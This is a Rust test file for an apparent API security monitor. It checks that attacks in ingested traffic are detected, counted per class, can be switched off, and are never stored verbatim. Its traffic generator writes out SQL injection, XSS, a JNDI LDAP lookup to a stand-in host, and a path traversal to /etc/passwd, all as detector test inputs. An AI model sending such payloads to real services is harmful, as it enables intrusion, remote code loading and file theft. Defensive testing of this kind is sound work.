//! Attacks in the real binary: seen, counted, switched off in a scope, and their text nowhere kept.

use std::fmt::Write as _;

use serde_json::{Value, json};

use crate::canaries::all_answers;
use crate::running::{Running, gatewatch};

/// It stands in the payload of every attack.
const CANARY: &str = "zq7kestrel";

fn line(method: &str, url: &str, status: u16, agent: &str, body: &str) -> String {
    let line = json!({
        "caller": { "ip": "203.0.113.9" },
        "request": {
            "method": method, "url": format!("https://shop.example{url}"), "body": body,
            "headers": { "content-type": "application/json", "user-agent": agent },
        },
        "response": { "status": status, "headers": { "content-type": "application/json" }, "body": "{}" },
    });
    line.to_string() + "\n"
}

/// Ordinary calls, and one attack of each of five kinds.
fn traffic() -> String {
    let mut lines = String::new();
    for number in 0..20 {
        let path = format!("/orders/{number}?page=1");
        lines += &line("GET", &path, 200, "shop-app/2.1", "");
    }
    let xss = json!({ "note": format!("<script>alert('{CANARY}')</script>") }).to_string();
    let named = json!({ format!("{CANARY}' or 1=1--"): 1 }).to_string();
    let jndi = format!("${{jndi:ldap://{CANARY}.example/a}}");
    let _ = write!(
        lines,
        "{}{}{}{}{}",
        line(
            "GET",
            &format!("/orders/7?page=1'%20union%20select%20'{CANARY}'--"),
            200,
            "x",
            ""
        ),
        line("POST", "/orders", 500, "x", &xss),
        line("POST", "/orders", 500, "x", &named),
        line("GET", "/orders/8", 200, &jndi, ""),
        line(
            "GET",
            &format!("/..%2f..%2fetc%2fpasswd%00{CANARY}"),
            404,
            "x",
            ""
        ),
    );
    lines
}

fn attacks(server: &Running) -> Vec<(String, u64)> {
    let found = server.get("/api/v1/signals");
    let classes = found["items"].as_array().unwrap().iter();
    let mut told = classes
        .map(|it| {
            (
                it["class"].as_str().unwrap().to_owned(),
                it["attacks"].as_u64().unwrap(),
            )
        })
        .filter(|it| it.1 > 0)
        .collect::<Vec<_>>();
    told.sort();
    told
}

fn class<'t>(told: &'t [(String, u64)], name: &str) -> Option<&'t (String, u64)> {
    told.iter().find(|it| it.0 == name)
}

#[test]
fn attacks_are_seen_and_their_text_is_not_kept() {
    let folder = tempfile::tempdir().unwrap();
    let server = Running::serve(folder.path());
    server.ingest("edge/1", &traffic());
    let told = attacks(&server);
    for name in ["sqli", "xss", "jndi", "path-traversal"] {
        assert!(class(&told, name).is_some(), "{name}: {told:?}");
    }
    let attacked = server.get("/api/v1/endpoints?attacked=yes&search=/orders/");
    let item = &attacked["items"][0];
    assert_eq!(
        (&item["template"], &item["signals"]["attacks"]),
        (&json!("/orders/{id}"), &json!(2))
    );
    assert_eq!(item["signals"]["answered"], 2);
    let collections = server.get("/api/v1/collections");
    let all = &collections["items"][0]["signals"]["attacks"];
    assert!(
        all.as_u64() >= Some(5),
        "the miss is among them: {collections}"
    );
    let by_class = server.get("/api/v1/endpoints?attack_class=jndi");
    assert_eq!(by_class["total"], 1, "{by_class}");

    let answers = all_answers(&server);
    assert!(server.terminate().success());
    let logged = std::fs::read_to_string(folder.path().join("standard-error")).unwrap();
    let store = std::fs::read(folder.path().join("data/gatewatch.db")).unwrap();
    let kept = memchr::memmem::find(&store, CANARY.as_bytes());
    assert!(kept.is_none() && !logged.contains(CANARY), "{logged}");
    assert!(!answers.contains(CANARY), "{answers}");
}

#[test]
fn what_is_switched_off_counts_no_more() {
    let folder = tempfile::tempdir().unwrap();
    let server = Running::serve(folder.path());
    server.ingest("edge/1", &traffic());
    let before = attacks(&server);
    let token = server.owner("anna");
    let off = r#"{"classes":{"sqli":false}}"#;
    let headers = [("content-type", "application/json")];
    let told = server.request("PUT", "/api/v1/vigilance", &token, &headers, off);
    assert_eq!(told.status, 202, "{}", told.body);
    crate::running::until("the control to be applied", || {
        let controls = server.get("/api/v1/controls");
        controls["items"][0]["applied"].as_bool().filter(|it| *it)
    });
    server.ingest("edge/2", &traffic());
    let after = attacks(&server);
    assert_eq!(class(&after, "sqli"), class(&before, "sqli"), "{after:?}");
    assert!(class(&after, "xss").map(|it| it.1) > class(&before, "xss").map(|it| it.1));
    let card: Value = server.get("/api/v1/detections/injection.sql");
    assert_eq!(
        (&card["on"], &card["class"]),
        (&json!(false), &json!("sqli"))
    );
    let audit = server.request("GET", "/api/v1/audit", &token, &[], "").body;
    assert!(audit.contains("control.watch"), "{audit}");
}

#[test]
fn a_scan_tells_signals_and_verdicts() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("captures.jsonl"), traffic()).unwrap();
    let scan = |format: &str| {
        let mut scan = gatewatch(folder.path());
        let out = scan
            .args(["scan", "--format", format, "captures.jsonl"])
            .output();
        String::from_utf8(out.unwrap().stdout).unwrap()
    };
    let lines = scan("jsonl");
    let lines = lines
        .lines()
        .map(|it| serde_json::from_str::<Value>(it).unwrap());
    let lines = lines.collect::<Vec<_>>();
    assert!(
        lines[..20]
            .iter()
            .all(|it| it["verdict"] == "clean" && it["signals"] == json!([]))
    );
    let sqli = &lines[20];
    assert_eq!(sqli["verdict"], "attack");
    let first = &sqli["signals"][0];
    assert_eq!(
        (&first["detector"], &first["class"]),
        (&json!("injection.sql"), &json!("sqli"))
    );
    assert_eq!(
        (&first["at"], &first["severity"]),
        (&json!("$.request.query.page"), &json!("high"))
    );
    let table = scan("table");
    assert!(
        table.contains("attacks by class") && table.contains("most at GET /orders/{id}"),
        "{table}"
    );
    let html = scan("html");
    assert!(html.contains("<h2>Attacks</h2>") && !html.contains(CANARY));
    let document: Value = serde_json::from_str(&scan("json")).unwrap();
    assert!(
        document["attacks"]
            .as_array()
            .is_some_and(|it| it.len() >= 4)
    );
}
